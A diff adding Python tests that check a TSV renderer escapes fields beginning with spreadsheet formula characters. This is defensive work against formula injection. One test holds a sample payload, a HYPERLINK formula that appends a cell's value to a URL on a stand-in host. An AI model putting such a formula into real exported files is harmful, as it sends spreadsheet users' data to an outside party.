@@ -68,3 +68,21 @@ def test_unknown_source_gives_dash_and_empty_analysis_gives_header_only(
 ) -> None:
     analysis = build("Calm prose.", [], Metadata())
     assert render(analysis, "tsv") == "\t".join(HEADER) + "\n"
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-2", "@SUM(A1)", "\uff1d1", "\tx"])
+def test_fields_never_start_with_a_formula_character(value: str) -> None:
+    escaped = escape_field(value)
+    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
+    assert escaped.startswith("\\")
+    assert unescape_field(escaped) == value
+
+
+def test_fragment_text_starting_with_a_formula_does_not_reach_the_spreadsheet(
+    build: Callable[..., Analysis],
+) -> None:
+    text = '=HYPERLINK("http://x/"&A1,"Click") is what they want.'
+    fragment = text[: text.index(" is")]
+    analysis = build(text, [(fragment, "Loaded_Language", 0.9)])
+    row = render(analysis, "tsv").splitlines()[1].split("\t")
+    assert row[-1].startswith("\\x3dHYPERLINK(") and unescape_field(row[-1]) == fragment
